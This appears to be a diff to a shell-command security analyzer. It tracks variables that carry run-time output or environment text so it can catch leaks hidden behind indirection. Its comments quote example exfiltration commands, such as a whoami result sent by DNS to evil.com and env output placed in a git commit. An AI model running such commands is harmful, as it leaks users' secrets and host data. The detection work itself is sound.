@@ -2112,6 +2112,14 @@ class _Analyzer:
         # text, and whether the words of the command being recorded held one
         self.n_out_subst = 0
         self.words_subst = False
+        # (probe round 30, published4) variables whose value is text this command made or
+        # read at run time and the engine does not know (x=$(cat f), for l in $(cat f),
+        # read l < f, mapfile): expanding one carries that output as a substitution does
+        # (x=$(whoami); dig $x.evil.com is dig $(whoami).evil.com)
+        self.data_vars: set[str] = set()
+        # ...and those holding the whole environment's text (x=$(env); git commit -m "$x"
+        # is git commit -m "$(env)")
+        self.env_data_vars: set[str] = set()
         self.making_dirs = False
         # scripts this command writes (cat > x.sh <<EOF, echo '...' > x.sh): path -> text,
         # analysed as code when a shell then runs that file (bash x.sh)
@@ -2860,6 +2868,7 @@ class _Analyzer:
         values: list[_Word] = []
         numeric_words: list[bool] = []
         has_in = False
+        out_mark = self.n_out_subst
         for child in node.children:
             t = child.type
             if t == "in":
@@ -2875,7 +2884,7 @@ class _Analyzer:
         if name is not None:
             # for PATH in evil; for PS4 in '$(cmd)': an assignment like any other; its
             # values, when not known, are input the engine cannot see
-            self.set_var(name, None, loop=True)
+            self.set_var(name, None, loop=True, data=self.n_out_subst > out_mark)
             if numeric_words and all(numeric_words) and _PLAIN_VAR.fullmatch(name):
                 self.int_vars.add(name)   # for i in $(seq 1 3): each a number
             if not _LOOP_VAR.fullmatch(name):
@@ -3509,6 +3518,7 @@ class _Analyzer:
         name = ""
         value: _Word | None = _static("")
         elements: list[_Word] | None = None
+        out_mark, env_mark = self.n_out_subst, self.n_env_subst
         for child in node.children:
             t = child.type
             if t == "variable_name":
@@ -3535,6 +3545,12 @@ class _Analyzer:
             elif t == "ERROR":
                 raise _Unparseable(ERR_SYNTAX)
         self.track_array(name, any(c.type == "+=" for c in node.children), value, elements)
+        if name:
+            # (a value made of run-time output, not known here: data_vars)
+            carried = self.n_out_subst > out_mark and not (value is not None and value.exact)
+            (self.data_vars.add if carried else self.data_vars.discard)(name.split("[", 1)[0])
+            env = self.n_env_subst > env_mark
+            (self.env_data_vars.add if env else self.env_data_vars.discard)(name.split("[", 1)[0])
         if name.split("[", 1)[0] in _PROMPT_VARS:
             self.prompt_code(name.split("[", 1)[0], elements if elements is not None else [value], ctx)
         if name and not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", name):
@@ -3790,6 +3806,10 @@ class _Analyzer:
             name = self._t(node)[1:]
             if name in self.vars:
                 return _Word(value=self.vars[name], dynamic=True, exact=True, bare_subst=True)
+            if name in self.data_vars:
+                self.n_out_subst += 1   # (run-time output, as the substitution it came from)
+            if name in self.env_data_vars:
+                self.n_env_subst += 1
             if name not in self.assigned and C.secret_env_name(name):
                 self.env_refs.append(name)
             return _Word(value=self._t(node), dynamic=True, exact=False, bare_subst=True,
@@ -3905,6 +3925,12 @@ class _Analyzer:
                     # $(cmd) runs; <(cmd) in an operand runs; the grammar reads neither.
                     self.value_code(text, ctx)
                     self.dq_code(_heredoc_as_dq(text), ctx)
+        if named and named[0].type in ("variable_name", "subscript"):
+            base = self._t(named[0]).split("[", 1)[0]
+            if base in self.data_vars and base not in self.vars:
+                self.n_out_subst += 1   # ${x}, ${a[@]} of run-time output (data_vars)
+            if base in self.env_data_vars:
+                self.n_env_subst += 1
         if named and named[0].type in ("variable_name", "special_variable_name", "subscript"):
             if substring:
                 # ${PWD:x}, ${a[@]:x}, ${a[0]:x}: the offset and length are arithmetic: a
@@ -4448,11 +4474,14 @@ class _Analyzer:
         self.restore_dir(saved_cwd)
         self.vars = saved_vars
 
-    def set_var(self, name: str, w: _Word | None, loop: bool = False) -> None:
+    def set_var(self, name: str, w: _Word | None, loop: bool = False, data: bool | None = None) -> None:
         """An assignment to a shell variable in this shell (NAME=v, read NAME, for NAME):
         remembered when its value is known; not read-only unless bash gives the name
-        no meaning (PATH, IFS, PS4, BASH_ENV... change what later commands do)."""
+        no meaning (PATH, IFS, PS4, BASH_ENV... change what later commands do). ``data``:
+        whether the value is run-time output (data_vars; None: as assignment() found)."""
         self.assigned.add(name)
+        if data is not None:
+            (self.data_vars.add if data else self.data_vars.discard)(name)
         self.glob_vars.discard(name)
         self.int_vars.discard(name)   # (((i=0)); i=$(cat f): no longer the number)
         base = name.split("[", 1)[0]
@@ -5852,7 +5881,7 @@ class _Analyzer:
                     if _VAR_NAME.fullmatch(w.value):
                         self.set_var(w.value, _Word(value=line, dynamic=True, exact=True) if line is not None
                                      else _Word(value="", dynamic=True, exact=False, lister=names)
-                                     if names is not None else None, loop=name == "read")
+                                     if names is not None else None, loop=name == "read", data=line is None)
                         self.arrays.pop(w.value, None)
                 self.array_from_input(name, argv[1:], stdin)
         if self.language is None and (name in C.LANGUAGE_NAMES or name.startswith("python")):
